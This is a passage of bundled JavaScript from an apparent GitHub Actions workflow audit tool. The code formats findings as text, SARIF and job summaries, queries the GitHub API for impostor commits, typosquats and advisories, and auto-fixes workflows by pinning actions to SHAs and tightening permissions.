            out.push(`${f.file}:${f.line}:${f.column}: ${f.severity} [${f.rule}] ${f.message}${f.confidence === 'high' ? '' : ` (${f.confidence} confidence)`}`, `  fix: ${f.fix}`);
        }
        for (const s of file.unusedSuppressions)
            out.push(`${file.file}:${s.line}:1: note: suppression of ${s.rule} matches no finding; remove it`);
    }
    const { coverage, counts } = report;
    const severities = Object.entries(counts.bySeverity)
        .filter(([, n]) => n > 0)
        .map(([s, n]) => `${n} ${s}`)
        .join(', ');
    if (out.length > 0)
        out.push('');
    out.push(`${coverage.passing} of ${coverage.files} file(s) pass (${coverage.percent}% coverage); ` +
        `${counts.findings} finding(s)${severities ? ` (${severities})` : ''}, ${counts.suppressed} suppressed with a reason.` +
        (counts.findings > 0
            ? ` By category: ${counts.byCategory.security} security, ${counts.byCategory.hygiene} hygiene, ${counts.byCategory.validation} validation.`
            : '') +
        (counts.belowConfidence > 0 ? ` ${counts.belowConfidence} lower-confidence finding(s) not shown (--all shows them).` : ''));
    return out.join('\n') + '\n';
}

;// CONCATENATED MODULE: ./packages/workflows/src/format-sarif.ts



const LEVEL = { critical: 'error', high: 'error', medium: 'warning', low: 'note' };
// Inside GitHub's code-scanning bands: >9.0 critical, 7.0-8.9 high, 4.0-6.9 medium, 0.1-3.9 low.
const SCORE = { critical: '9.5', high: '8.0', medium: '5.5', low: '2.0' };
const EXTRA = [
    {
        id: INVALID_FILE,
        title: 'GitHub cannot parse this file',
        severity: 'high',
        confidence: 'high',
        category: 'validation',
        description: "Errors from GitHub's workflow parser.",
        fix: 'Correct the file.',
    },
    {
        id: INVALID_SUPPRESSION,
        title: 'Suppression comment that cannot be honoured',
        severity: 'medium',
        confidence: 'high',
        category: 'validation',
        description: 'A suppression must name a rule and give a reason.',
        fix: "Write '# slipway-audit: ignore <rule-id> -- <reason>'.",
    },
];
/** SARIF 2.1.0 for GitHub code scanning; suppressed findings are kept as SARIF suppressions. */
function formatAuditSarif(report, version) {
    const rules = [...RULES, ...ONLINE_RULES, ...EXTRA];
    const index = new Map(rules.map((r, i) => [r.id, i]));
    const results = report.files.flatMap((file) => [...file.findings, ...file.suppressed].map((f) => ({
        properties: { confidence: f.confidence, category: f.category },
        ruleId: f.rule,
        ruleIndex: index.get(f.rule) ?? 0,
        level: LEVEL[f.severity],
        message: { text: `${f.message}. Fix: ${f.fix}` },
        locations: [{ physicalLocation: { artifactLocation: { uri: f.file }, region: { startLine: f.line, startColumn: f.column } } }],
        // Stable across edits elsewhere in the file: the rule, the file and the finding's text.
        partialFingerprints: { 'slipwayFinding/v1': `${f.rule}:${f.file}:${f.message}` },
        ...(f.suppression ? { suppressions: [{ kind: 'inSource', justification: f.suppression.reason }] } : {}),
    })));
    return {
        $schema: 'https://json.schemastore.org/sarif-2.1.0.json',
        version: '2.1.0',
        runs: [
            {
                tool: {
                    driver: {
                        name: 'slipway-pipeline-audit',
                        version,
                        rules: rules.map((r) => ({
                            id: r.id,
                            name: r.id.replace(/(^|-)(\w)/g, (_, __, c) => c.toUpperCase()),
                            shortDescription: { text: r.title },
                            fullDescription: { text: r.description },
                            help: { text: r.fix, markdown: r.fix },
                            defaultConfiguration: { level: LEVEL[r.severity] },
                            properties: { tags: [r.category, 'actions'], precision: r.confidence, 'security-severity': SCORE[r.severity] },
                        })),
                    },
                },
                results,
            },
        ],
    };
}

;// CONCATENATED MODULE: ./packages/workflows/src/format-summary.ts

/** The job-summary section of an audit: the verdict and coverage first, then each finding with its fix. */
function formatAuditSummary(report) {
    const md = new src/* Markdown */.oz().heading('Workflow audit');
    const { coverage, counts } = report;
    md.paragraph(report.passed
        ? `**Passed**: ${coverage.files} file(s), no findings${counts.suppressed ? ` (${counts.suppressed} suppressed with a reason)` : ''}.`
        : `**Failed**: ${counts.findings} finding(s) in ${coverage.files - coverage.passing} of ${coverage.files} file(s).`);
    md.paragraph(`Coverage: **${coverage.percent}%** of audited workflows pass (${coverage.passing} of ${coverage.files}).`);
    const rows = report.files.flatMap((file) => file.findings.map((f) => [f.severity, f.rule, `${f.file}:${f.line}`, f.message, f.fix]));
    if (rows.length > 0)
        md.table(['Severity', 'Rule', 'Where', 'Finding', 'Fix'], rows);
    const perFile = report.files.map((f) => [f.file, f.kind, f.passed ? 'pass' : 'fail', f.findings.length, f.suppressed.length]);
    md.details('Files', new src/* Markdown */.oz().table(['File', 'Kind', 'Result', 'Findings', 'Suppressed'], perFile, ['l', 'l', 'l', 'r', 'r']).toString());
    const suppressed = report.files.flatMap((f) => f.suppressed.map((s) => [s.rule, `${s.file}:${s.line}`, s.suppression?.reason ?? '']));
    if (suppressed.length > 0)
        md.details('Suppressed findings', new src/* Markdown */.oz().table(['Rule', 'Where', 'Reason'], suppressed).toString());
    return md.toString();
}

;// CONCATENATED MODULE: ./packages/workflows/src/online/github-api.ts

const refDecoder = src/* decode.object */.D4.object({ object: src/* decode.object */.D4.object({ sha: src/* decode.string */.D4.string, type: src/* decode.string */.D4.string }) });
const namedCommits = src/* decode.array */.D4.array(src/* decode.object */.D4.object({ name: src/* decode.string */.D4.string, commit: src/* decode.object */.D4.object({ sha: src/* decode.string */.D4.string }) }));
const advisoryList = src/* decode.array */.D4.array(src/* decode.object */.D4.object({
    ghsa_id: src/* decode.string */.D4.string,
    cve_id: src/* decode.withDefault */.D4.withDefault(src/* decode.nullable */.D4.nullable(src/* decode.string */.D4.string), null),
    summary: src/* decode.string */.D4.string,
    severity: src/* decode.string */.D4.string,
    vulnerabilities: src/* decode.array */.D4.array(src/* decode.object */.D4.object({
        package: src/* decode.object */.D4.object({ ecosystem: src/* decode.string */.D4.string, name: src/* decode.string */.D4.string }),
        vulnerable_version_range: src/* decode.withDefault */.D4.withDefault(src/* decode.nullable */.D4.nullable(src/* decode.string */.D4.string), null),
        first_patched_version: src/* decode.withDefault */.D4.withDefault(src/* decode.nullable */.D4.nullable(src/* decode.string */.D4.string), null),
    })),
}));
/** The GitHub REST API with a token, every call under core's deadlines and retry policy. */
function githubApi(options) {
    const base = options.baseUrl.replace(/\/$/, '');
    const headers = {
        accept: 'application/vnd.github+json',
        authorization: `Bearer ${options.token}`,
        'x-github-api-version': '2022-11-28',
        'user-agent': 'slipway-pipeline-audit',
    };
    let lastLink = null;
    const get = async (path) => {
        const url = path.startsWith('http') ? path : `${base}${path}`;
        const response = await (0,src/* githubRequest */.H6)(url, { method: 'GET', headers }, {
            what: 'the GitHub API',
            sleep: options.sleep ?? src/* sleep */.fb,
            now: options.now ?? Date.now,
            deadlines: { firstByteMs: 20_000, idleMs: 20_000 },
            // As fetch does: a renamed repository answers 301 to its new place.
            redirects: 5,
            ...(options.log ? { log: options.log } : {}),
            ...(options.transport ? { transport: options.transport } : {}),
        });
        if (response.status === 404 || response.status === 422)
            return undefined;
        lastLink = response.headers.get('link');
        const text = response.body.toString('utf8');
        const limited = response.headers.get('x-ratelimit-remaining') === '0' || /rate limit/i.test(text);
        if ((response.status === 403 || response.status === 429) && limited)
            throw new src/* UserError */.yo(`the GitHub API's rate limit stopped the audit at ${path} (${response.status}): it outlasted the audit's waits (at most 5 tries, 5 minutes a wait): ${text.slice(0, 200)}`, {
                code: src/* errorCodes */.fv.networkStatus,
                hint: 'run the online audit again after the limit resets, or with a token that has its own quota',
            });
        if (response.status === 401 || response.status === 403)
            throw new src/* UserError */.yo(`the GitHub API refused ${path} (${response.status}): ${text.slice(0, 200)}`, {
                code: src/* errorCodes */.fv.invalidInput,
                hint: 'give a token that can read public repositories (GITHUB_TOKEN or GH_TOKEN)',
            });
        if (!response.ok)
            throw new src/* UserError */.yo(`the GitHub API answered ${response.status} for ${path}`, {
                code: src/* errorCodes */.fv.networkStatus,
                hint: 'try again later',
            });
        return (0,src/* parseJson */.qF)(text, `the GitHub API's answer to ${path}`);
    };
    const paged = async (path) => {
        const out = [];
        for (let page = 1; page <= 10; page += 1) {
            const json = await get(`${path}?per_page=100&page=${page}`);
            if (json === undefined)
                break;
            const items = (0,src/* decodeDocument */.w8)(namedCommits, json, path);
            out.push(...items.map((i) => ({ name: i.name, sha: i.commit.sha })));
            if (items.length < 100)
                break;
        }
        return out;
    };
    const repoPath = (owner, repo) => `/repos/${encodeURIComponent(owner)}/${encodeURIComponent(repo)}`;
    return {
        async repository(owner, repo) {
            const json = await get(repoPath(owner, repo));
            return json === undefined
                ? undefined
                : (0,src/* decodeDocument */.w8)(src/* decode.object */.D4.object({ archived: src/* decode.withDefault */.D4.withDefault(src/* decode.boolean */.D4.boolean, false) }), json, 'repository');
        },
        async ref(owner, repo, ref) {
            const json = await get(`${repoPath(owner, repo)}/git/ref/${ref.split('/').map(encodeURIComponent).join('/')}`);
            if (json === undefined || Array.isArray(json))
                return undefined;
            let target = (0,src/* decodeDocument */.w8)(refDecoder, json, `ref ${ref}`).object;
            for (let hops = 0; target.type === 'tag' && hops < 5; hops += 1) {
                const tag = await get(`${repoPath(owner, repo)}/git/tags/${target.sha}`);
                if (tag === undefined)
                    return undefined;
                target = (0,src/* decodeDocument */.w8)(refDecoder, tag, `tag ${ref}`).object;
            }
            return target.sha;
        },
        tags: (owner, repo) => paged(`${repoPath(owner, repo)}/tags`),
        branches: (owner, repo) => paged(`${repoPath(owner, repo)}/branches`),
        async compare(owner, repo, baseRef, head) {
            const json = await get(`${repoPath(owner, repo)}/compare/${encodeURIComponent(baseRef)}...${head}`);
            return json === undefined ? undefined : (0,src/* decodeDocument */.w8)(src/* decode.object */.D4.object({ status: src/* decode.string */.D4.string }), json, 'compare').status;
        },
        async advisories(owner, repo) {
            const json = await get(`/advisories?ecosystem=actions&affects=${encodeURIComponent(`${owner}/${repo}`)}&per_page=100`);
            if (json === undefined)
                return [];
            return toAdvisories(json).filter((a) => a.package === `${owner}/${repo}`.toLowerCase());
        },
        async allAdvisories() {
            const out = [];
            let next = '/advisories?ecosystem=actions&type=reviewed&per_page=100';
            for (let page = 0; next && page < 50; page += 1) {
                const json = await get(next);
                if (json === undefined)
                    break;
                out.push(...toAdvisories(json));
                next = /<([^>]+)>;\s*rel="next"/.exec(lastLink ?? '')?.[1];
            }
            return out;
        },
    };
}
/** GitHub's global advisories as one entry per affected action. */
function toAdvisories(json) {
    return (0,src/* decodeDocument */.w8)(advisoryList, json, 'advisories').flatMap((a) => a.vulnerabilities
        .filter((v) => v.package.ecosystem === 'actions')
        .map((v) => ({
        id: a.ghsa_id,
        aliases: a.cve_id ? [a.cve_id] : [],
        summary: a.summary,
        severity: a.severity,
        package: v.package.name.toLowerCase(),
        vulnerable: v.vulnerable_version_range ?? '>= 0',
        patched: v.first_patched_version,
    })));
}
/** A complete advisory snapshot of the actions ecosystem, taken now through the API. */
async function refreshAdvisories(api, now, baseUrl) {
    return {
        source: `GitHub Advisory Database through ${baseUrl}/advisories?ecosystem=actions&type=reviewed`,
        taken: now.toISOString().slice(0, 10),
        complete: true,
        advisories: await api.allAdvisories(),
    };
}

;// CONCATENATED MODULE: ./packages/workflows/src/online/online-audit.ts









const online_audit_SHA = /^[0-9a-f]{40}$/;
const ALL = [...RULES, ...ONLINE_RULES];
/** Memoises API answers per repository: a file set names the same actions many times. */
function memo(fn) {
    const cache = new Map();
    return (key) => {
        let hit = cache.get(key);
        if (!hit) {
            hit = fn(key);
            cache.set(key, hit);
        }
        return hit;
    };
}
/**
 * The audits that need GitHub: impostor commits, ref confusion, version-comment mismatches,
 * pins between releases, archived repositories, look-alike repositories that exist, and the
 * advisories the API knows (SHA pins resolved to their release tags).
 */
async function onlineFindings(inputs, api) {
    const repository = memo((k) => api.repository(...k.split('/')));
    const tags = memo((k) => api.tags(...k.split('/')));
    const branches = memo((k) => api.branches(...k.split('/')));
    const advisories = memo((k) => api.advisories(...k.split('/')));
    const out = [];
    const push = (rule, file, line, message, extra = {}) => {
        const r = ALL.find((x) => x.id === rule);
        if (!r)
            return;
        out.push({
            rule,
            severity: r.severity,
            confidence: r.confidence,
            category: r.category,
            title: r.title,
            message,
            fix: r.fix,
            file,
            line,
            column: 1,
            ...extra,
        });
    };
    for (const input of inputs) {
        let model;
        try {
            model = workflowModel(input.kind, parseYamlTree(input.content, input.file));
        }
        catch {
            continue; // The offline audit reports the file as invalid.
        }
        for (const { uses, line } of usesOf(model)) {
            const r = remoteUses(uses);
            if (!r || !r.owner || !r.repo || uses.includes('${{'))
                continue;
            const slug = `${r.owner}/${r.repo}`;
            const repo = await repository(slug);
            if (!repo) {
                if (!typosquatOf(slug))
                    push('impostor-commit', input.file, line, `${slug} does not exist on GitHub: nothing it could run is reviewed`, {
                        severity: 'high',
                    });
                continue;
            }
            if (typosquatOf(slug))
                push('typosquat-uses', input.file, line, `'${slug}' is one typo away from ${typosquatOf(slug)} and exists on GitHub`, {
                    confidence: 'high',
                });
            if (repo.archived && ARCHIVED[slug] === undefined)
                push('archived-uses', input.file, line, `${slug} is archived`);
            const lineText = input.content.split(/\r?\n/)[line - 1] ?? '';
            let version = claimedVersion(r.ref, lineText)?.version;
            if (online_audit_SHA.test(r.ref)) {
                const repoTags = await tags(slug);
                const tagged = repoTags.filter((t) => t.sha === r.ref);
                const heads = await branches(slug);
                let reachable = tagged.length > 0 || heads.some((b) => b.sha === r.ref);
                for (const b of heads.slice(0, 50)) {
                    if (reachable)
                        break;
                    const status = await api.compare(r.owner, r.repo, b.name, r.ref);
                    reachable = status === 'behind' || status === 'identical';
                }
                if (!reachable)
                    push('impostor-commit', input.file, line, `${r.ref} is not on any branch or tag of ${slug}: it comes from a fork (or does not exist)`);
                else if (tagged.length === 0)
                    push('stale-action-refs', input.file, line, `${slug}@${r.ref} is not the commit of any tag`);
                const comment = claimedVersion(r.ref, lineText);
                if (comment && reachable) {
                    const at = repoTags.find((t) => t.name === comment.version)?.sha ?? (await api.ref(r.owner, r.repo, `tags/${comment.version}`));
                    if (at && at !== r.ref)
                        push('ref-version-mismatch', input.file, line, `the comment says ${comment.version}, which is ${at.slice(0, 12)}, not the pinned ${r.ref.slice(0, 12)}`);
                }
                // The most specific release tag of the pinned commit is its version.
                version = tagged.map((t) => t.name).sort((a, b) => b.split('.').length - a.split('.').length)[0] ?? version;
            }
            else if (r.ref) {
                const [branch, tag] = await Promise.all([api.ref(r.owner, r.repo, `heads/${r.ref}`), api.ref(r.owner, r.repo, `tags/${r.ref}`)]);
                if (branch && tag && branch !== tag)
                    push('ref-confusion', input.file, line, `'${r.ref}' of ${slug} is both a branch and a tag`);
            }
            const offline = new Set(shippedAdvisories().advisories.map((a) => `${a.id} ${a.package}`));
            const online = online_audit_SHA.test(r.ref)
                ? await advisories(slug)
                : (await advisories(slug)).filter((a) => !offline.has(`${a.id} ${a.package}`));
            if (version)
                for (const a of advisoriesFor({ source: '', taken: '', complete: true, advisories: online }, slug, version))
                    push('known-vulnerable-actions', input.file, line, `${slug} ${version} is affected by ${a.id}${a.aliases.length ? ` (${a.aliases.join(', ')})` : ''}: ${a.summary}`, {
                        fix: a.patched ? `Upgrade to ${a.patched} or later.` : 'Pin to a commit released after the advisory.',
                    });
        }
    }
    return out;
}

;// CONCATENATED MODULE: ./packages/workflows/src/fix/fix-file.ts



const fix_file_SHA = /^[0-9a-f]{40}$/;
const fix_file_RELEASE_TAG = /^v\d+(\.\d+){0,2}$/;
const lineStart = (text, at) => text.lastIndexOf('\n', at - 1) + 1;
const lineEnd = (text, at) => {
    const n = text.indexOf('\n', at);
    return n < 0 ? text.length : n;
};
const column = (text, at) => at - lineStart(text, at);
function pairOf(map, key) {
    return map.items.find((p) => (0,yaml_dist/* isScalar */.jn)(p.key) && String(p.key.value) === key);
}
/** Where a block map's last entry ends: the end of the line its last value ends on. */
function mapEnd(text, map) {
    const last = map.items[map.items.length - 1];
    const value = last?.value;
    const key = last?.key;
    const end = value?.range?.[1] ?? key?.range?.[1] ?? map.range?.[1] ?? 0;
    // A block scalar's value ends after its last line's newline: step back onto that line.
    return lineEnd(text, text[end - 1] === '\n' ? end - 1 : end);
}
const firstKeyColumn = (text, map) => {
    const key = map.items[0]?.key;
    return column(text, key?.range?.[0] ?? 0);
};
/** The permissions a job needs, from the well-known actions it uses; undefined when a step's needs are unknown. */
function inferPermissions(job) {
    if (pairOf(job, 'uses'))
        return { unknown: 'it calls a reusable workflow, whose needs the caller must grant' };
    const grants = {};
    const steps = pairOf(job, 'steps')?.value;
    for (const step of (0,yaml_dist/* isSeq */.oP)(steps) ? steps.items : []) {
        if (!(0,yaml_dist/* isMap */.jh)(step))
            continue;
        const uses = pairOf(step, 'uses')?.value;
        const text = JSON.stringify(step.toJSON());
        if ((0,yaml_dist/* isScalar */.jn)(uses)) {
            const name = actionName(String(uses.value).trim());
            if (name.startsWith('./') || name.startsWith('$/'))
                return { unknown: `the local action ${name} may use the token` };
            const needed = PERMISSIONS_NEEDED[name] ?? PERMISSIONS_NEEDED[name.split('/').slice(0, 2).join('/')];
            if (!needed)
                return { unknown: `what ${name} needs is not in the table of well-known actions` };
            for (const [scope, level] of Object.entries(needed))
                if (grants[scope] !== 'write')
                    grants[scope] = level;
        }
        // A script handed the token (gh, curl to the API) needs scopes no table can tell.
        if (/github\.token|secrets\.GITHUB_TOKEN/.test(text) && !(0,yaml_dist/* isScalar */.jn)(uses))
            return { unknown: 'a script step uses the token' };
    }
    return { grants };
}
/**
 * The mechanical fixes of one workflow or composite action, as splices of its text so every
 * comment and all formatting stay: SHA pins with a `# vX.Y.Z` comment, `persist-credentials:
 * false` on checkouts, and `permissions: {}` with per-job grants inferred from the steps.
 */
async function fixFile(content, kind, options) {
    const doc = (0,yaml_dist/* parseDocument */.Tp)(content, { keepSourceTokens: true });
    const applied = [];
    const skipped = [];
    if (doc.errors.length > 0 || !(0,yaml_dist/* isMap */.jh)(doc.contents))
        return { content, applied, skipped: ['the file is not a YAML mapping'] };
    const root = doc.contents;
    const edits = [];
    const jobs = kind === 'workflow' ? pairOf(root, 'jobs')?.value : undefined;
    const jobEntries = (0,yaml_dist/* isMap */.jh)(jobs) ? jobs.items : [];
    const stepMaps = [];
    const usesScalars = [];
    if (kind === 'workflow') {
        for (const pair of jobEntries) {
            if (!(0,yaml_dist/* isMap */.jh)(pair.value))
                continue;
            const call = pairOf(pair.value, 'uses')?.value;
            if ((0,yaml_dist/* isScalar */.jn)(call))
                usesScalars.push(call);
            const steps = pairOf(pair.value, 'steps')?.value;
            for (const s of (0,yaml_dist/* isSeq */.oP)(steps) ? steps.items : [])
                if ((0,yaml_dist/* isMap */.jh)(s))
                    stepMaps.push(s);
        }
    }
    else {
        const steps = pairOf((0,yaml_dist/* isMap */.jh)(pairOf(root, 'runs')?.value) ? pairOf(root, 'runs')?.value : root, 'steps')?.value;
        for (const s of (0,yaml_dist/* isSeq */.oP)(steps) ? steps.items : [])
            if ((0,yaml_dist/* isMap */.jh)(s))
                stepMaps.push(s);
    }
    for (const s of stepMaps) {
        const u = pairOf(s, 'uses')?.value;
        if ((0,yaml_dist/* isScalar */.jn)(u))
            usesScalars.push(u);
    }
    // SHA pins.
    for (const scalar of usesScalars) {
        const raw = String(scalar.value).trim();
        const r = remoteUses(raw);
        if (!r || fix_file_SHA.test(r.ref) || raw.includes('${{') || !r.ref)
            continue;
        if (options.trustedOwners.some((o) => o.toLowerCase() === r.owner) && fix_file_RELEASE_TAG.test(r.ref))
            continue;
        if (scalar.type !== 'PLAIN' && scalar.type !== 'QUOTE_SINGLE' && scalar.type !== 'QUOTE_DOUBLE') {
            skipped.push(`${raw}: a block scalar is left as written`);
            continue;
        }
        const pin = await options.resolvePin(r.owner, r.repo, r.ref);
        if (!pin) {
            skipped.push(`${raw}: no commit known for '${r.ref}' (give --pins FILE or --online)`);
            continue;
        }
        const [start = 0, end = 0] = scalar.range ?? [];
        const quote = scalar.type === 'QUOTE_DOUBLE' ? '"' : scalar.type === 'QUOTE_SINGLE' ? "'" : '';
        const pinned = `${quote}${raw.slice(0, raw.lastIndexOf('@'))}@${pin.sha}${quote}`;
        const eol = lineEnd(content, end);
        const rest = content.slice(end, eol);
        const version = /#\s*v\d+(\.\d+){0,2}\b/.exec(rest);
        if (version) {
            edits.push({ start, end, text: pinned });
            edits.push({ start: end + version.index, end: end + version.index + version[0].length, text: `# ${pin.version}` });
        }
        else
            edits.push({ start, end, text: `${pinned} # ${pin.version}` });
        applied.push(`pinned ${raw} to ${pin.sha} (${pin.version})`);
    }
    // persist-credentials: false on every checkout that does not say.
    for (const step of stepMaps) {
        const u = pairOf(step, 'uses')?.value;
        if (!(0,yaml_dist/* isScalar */.jn)(u) || actionName(String(u.value).trim()) !== 'actions/checkout')
            continue;
        const w = pairOf(step, 'with');
        if (w && (0,yaml_dist/* isMap */.jh)(w.value) && pairOf(w.value, 'persist-credentials'))
            continue;
        if (w && (0,yaml_dist/* isMap */.jh)(w.value) && !w.value.flow && w.value.items.length > 0) {
            edits.push({
                start: mapEnd(content, w.value),
                end: mapEnd(content, w.value),
                text: `\n${' '.repeat(firstKeyColumn(content, w.value))}persist-credentials: false`,
            });
        }
        else if (!w && !step.flow) {
            const indent = ' '.repeat(firstKeyColumn(content, step));
            edits.push({
                start: mapEnd(content, step),
                end: mapEnd(content, step),
                text: `\n${indent}with:\n${indent}  persist-credentials: false`,
            });
        }
        else {
            skipped.push('a checkout with a flow-style or empty `with:` is left as written');
            continue;
        }
        applied.push('set persist-credentials: false on actions/checkout');
    }
    // permissions: {} at the top, with each job's grants.
    if (kind === 'workflow' && !pairOf(root, 'permissions') && (0,yaml_dist/* isMap */.jh)(jobs)) {
        const plans = jobEntries.map((pair) => ({
            pair,
            plan: (0,yaml_dist/* isMap */.jh)(pair.value) && !pairOf(pair.value, 'permissions') ? inferPermissions(pair.value) : undefined,
        }));
        const unknown = plans.find((p) => p.plan && 'unknown' in p.plan);
        if (unknown?.plan && 'unknown' in unknown.plan) {
            skipped.push(`permissions: job '${String(unknown.pair.key.value)}' is left to you: ${unknown.plan.unknown}`);
        }
        else {
            const jobsKey = (pairOf(root, 'jobs')?.key).range?.[0] ?? 0;
            edits.push({ start: lineStart(content, jobsKey), end: lineStart(content, jobsKey), text: 'permissions: {}\n' });
            for (const { pair, plan } of plans) {
                if (!plan || !('grants' in plan) || !(0,yaml_dist/* isMap */.jh)(pair.value) || pair.value.flow)
                    continue;
                const indent = ' '.repeat(firstKeyColumn(content, pair.value));
                const grants = Object.entries(plan.grants).sort(([a], [b]) => a.localeCompare(b));
                const block = grants.length === 0
                    ? `\n${indent}permissions: {}`
                    : `\n${indent}permissions:${grants.map(([s, l]) => `\n${indent}  ${s}: ${l}`).join('')}`;
                const at = lineEnd(content, pair.key.range?.[0] ?? 0);
                edits.push({ start: at, end: at, text: block });
            }
            applied.push('set permissions: {} at the top and per-job grants from the steps');
        }
    }
    edits.sort((a, b) => b.start - a.start || b.end - a.end);
    let out = content;
    for (const e of edits)
        out = out.slice(0, e.start) + e.text + out.slice(e.end);
    return { content: out, applied, skipped };
}

;// CONCATENATED MODULE: ./packages/workflows/src/fix/pins.ts

const pinsFile = src/* decode.record */.D4.record(src/* decode.record */.D4.record(src/* decode.string */.D4.string));
/** The most specific tag (`v4.2.2` over `v4`) among those naming one commit. */
function mostSpecific(tags, fallback) {
    return [...tags].sort((x, y) => y.split('.').length - x.split('.').length || y.localeCompare(x))[0] ?? fallback;
}
/**
 * Pins from a file: `{"actions/checkout": {"v4": "<sha>", "v4.2.2": "<sha>"}}`, every tag of
 * interest with its commit (what `git ls-remote --tags` prints, for working offline).
 */
function pinsFromFile(json, source) {
    const table = (0,src/* decodeDocument */.w8)(pinsFile, json, source);
    const lower = new Map(Object.entries(table).map(([k, v]) => [k.toLowerCase(), v]));
    return (owner, repo, ref) => {
        const tags = lower.get(`${owner}/${repo}`.toLowerCase());
        const sha = tags?.[ref];
        if (!tags || !sha || !/^[0-9a-f]{40}$/.test(sha))
            return Promise.resolve(undefined);
        return Promise.resolve({
            sha,
            version: mostSpecific(Object.entries(tags)
                .filter(([, s]) => s === sha)
                .map(([t]) => t), ref),
        });
    };
}
/** Pins resolved through the GitHub API: the ref's commit (annotated tags followed), then its release tags. */
function pinsFromApi(api) {
    return async (owner, repo, ref) => {
        const sha = (await api.ref(owner, repo, `tags/${ref}`)) ?? (await api.ref(owner, repo, `heads/${ref}`));
        if (!sha)
            return undefined;
        const tags = (await api.tags(owner, repo)).filter((t) => t.sha === sha).map((t) => t.name);
        return { sha, version: mostSpecific(tags, ref) };
    };
}

;// CONCATENATED MODULE: ./packages/workflows/src/estimate/job-graph.ts



function literalMatrixSize(strategy) {
    const matrix = child(strategy, 'matrix');
    if (matrix?.kind !== 'map')
        return undefined;
    let size = 1;
    let any = false;
    for (const [key, value] of entries(matrix)) {
        if (key === 'include' || key === 'exclude')
            continue;
        if (value.kind !== 'seq')
            return undefined;
        size *= value.items.length;
        any = true;
    }
    return any ? size : undefined;
}
function jobsOf(content, source, prefix, inherited, resolve, depth) {
    const jobsNode = child(parseYamlTree(content, source).root, 'jobs');
    if (jobsNode?.kind !== 'map')
        throw new src/* UserError */.yo(`${source} has no jobs: it is not a workflow`);
    const out = [];
    for (const [id, job] of entries(jobsNode)) {
        const needs = items(child(job, 'needs'))
            .map(yaml_tree_text)
            .filter((n) => n !== undefined)
            .map((n) => prefix + n);
        const uses = yaml_tree_text(child(job, 'uses'));
        const called = uses && depth < 4 ? resolve(uses) : undefined;
        if (uses && called !== undefined) {
            // The called workflow sees its declared defaults, overridden by the caller's `with:`.
            const callInputs = child(child(child(parseYamlTree(called, uses).root, 'on'), 'workflow_call'), 'inputs');
            const defaults = entries(callInputs).map(([k, v]) => [k, yaml_tree_text(child(v, 'default')) ?? '']);
            const withValues = Object.fromEntries([...defaults, ...entries(child(job, 'with')).map(([k, v]) => [k, yaml_tree_text(v) ?? ''])]);
            const inner = jobsOf(called, uses, `${prefix}${id}/`, withValues, resolve, depth + 1);
            const innerIds = new Set(inner.map((j) => j.id));
            // Roots of the called workflow wait for the caller job's needs; its dependants wait for every inner sink.
            for (const j of inner)
                if (j.needs.length === 0)
                    j.needs = [...needs];
            const sinks = inner.filter((j) => !inner.some((o) => o.needs.includes(j.id))).map((j) => j.id);
            out.push(...inner);
            out.push({ id: prefix + id, aliases: [id], needs: sinks.filter((s) => innerIds.has(s)), shards: undefined, plannedMatrix: false });
            continue;
        }
        const strategy = child(job, 'strategy');
        const matrixText = yaml_tree_text(child(strategy, 'matrix')) ?? '';
        const planned = /fromJSON\(\s*needs\./i.test(matrixText);
        const shardsInput = Number(inherited['shards']);
        const targetInput = Number(inherited['target-seconds']);
        const maxInput = Number(inherited['max-shards']);
        const fixed = literalMatrixSize(strategy) ?? (planned && Number.isInteger(shardsInput) && shardsInput > 0 ? shardsInput : undefined);
        const name = yaml_tree_text(child(job, 'name'));
        out.push({
            id: prefix + id,
            aliases: [id, ...(name && !name.includes('${{') ? [name] : [])],
            needs,
            shards: fixed,
            plannedMatrix: planned,
            ...(planned && fixed === undefined && targetInput > 0 ? { targetSeconds: targetInput } : {}),
            ...(planned && maxInput > 0 ? { maxShards: maxInput } : {}),
        });
    }
    return out;
}
/** The jobs and `needs:` edges of a workflow, with called workflows expanded where `resolve` finds them. */
function jobGraph(content, source, resolve = () => undefined) {
    const jobs = jobsOf(content, source, '', {}, resolve, 0);
    const ids = new Set(jobs.map((j) => j.id));
    for (const j of jobs) {
        const unknown = j.needs.filter((n) => !ids.has(n));
        if (unknown.length > 0)
            throw new src/* UserError */.yo(`${source}: job '${j.id}' needs unknown job(s) ${unknown.join(', ')}`);
    }
    return jobs;
}
/** The workflow's `name:` (what GitHub and ci-metrics call its runs), if it has one. */
function workflowNameOf(content, source) {
    return yaml_tree_text(child(parseYamlTree(content, source).root, 'name'));
}

;// CONCATENATED MODULE: ./packages/workflows/src/estimate/timings.ts

const seconds = src/* decode.oneOf */.D4.oneOf(src/* decode.map */.D4.map(src/* decode.number */.D4.number, (n) => [n]), src/* decode.array */.D4.array(src/* decode.number */.D4.number));
const givenFormat = src/* decode.object */.D4.object({
    budgetMinutes: src/* decode.optional */.D4.optional(src/* decode.number */.D4.number),
    jobs: src/* decode.record */.D4.record(src/* decode.object */.D4.object({
        seconds: src/* decode.optional */.D4.optional(seconds),
        serialSeconds: src/* decode.optional */.D4.optional(src/* decode.number */.D4.number),
        overheadSeconds: src/* decode.optional */.D4.optional(src/* decode.number */.D4.number),
    }, { strict: true })),
}, { strict: true });
const apiJob = src/* decode.object */.D4.object({
    name: src/* decode.string */.D4.string,
    started_at: src/* decode.nullable */.D4.nullable(src/* decode.string */.D4.string),
    completed_at: src/* decode.nullable */.D4.nullable(src/* decode.string */.D4.string),
    conclusion: src/* decode.optional */.D4.optional(src/* decode.string */.D4.string),
});
const apiRun = src/* decode.object */.D4.object({ jobs: src/* decode.array */.D4.array(apiJob) });
const apiFormat = src/* decode.oneOf */.D4.oneOf(src/* decode.map */.D4.map(apiRun, (r) => [r]), src/* decode.array */.D4.array(apiRun));
const unixSeconds = (iso) => (iso === null ? null : Date.parse(iso) / 1000);
// The ci-metrics history file (`ci-metrics/history.json`): the fields an estimate needs.
const historyJob = src/* decode.object */.D4.object({
    name: src/* decode.string */.D4.string,
    attempt: src/* decode.number */.D4.number,
    conclusion: src/* decode.string */.D4.string,
    startedAt: src/* decode.number */.D4.number,
    completedAt: src/* decode.number */.D4.number,
});
const historyFormat = src/* decode.object */.D4.object({
    version: src/* decode.number */.D4.number,
    runs: src/* decode.array */.D4.array(src/* decode.object */.D4.object({ workflow: src/* decode.string */.D4.string, conclusion: src/* decode.string */.D4.string, attempt: src/* decode.number */.D4.number, jobs: src/* decode.array */.D4.array(historyJob) })),
});
/** Successful runs of one workflow from a ci-metrics history, the jobs of their last attempt. */
function fromHistory(value, source, workflowName) {
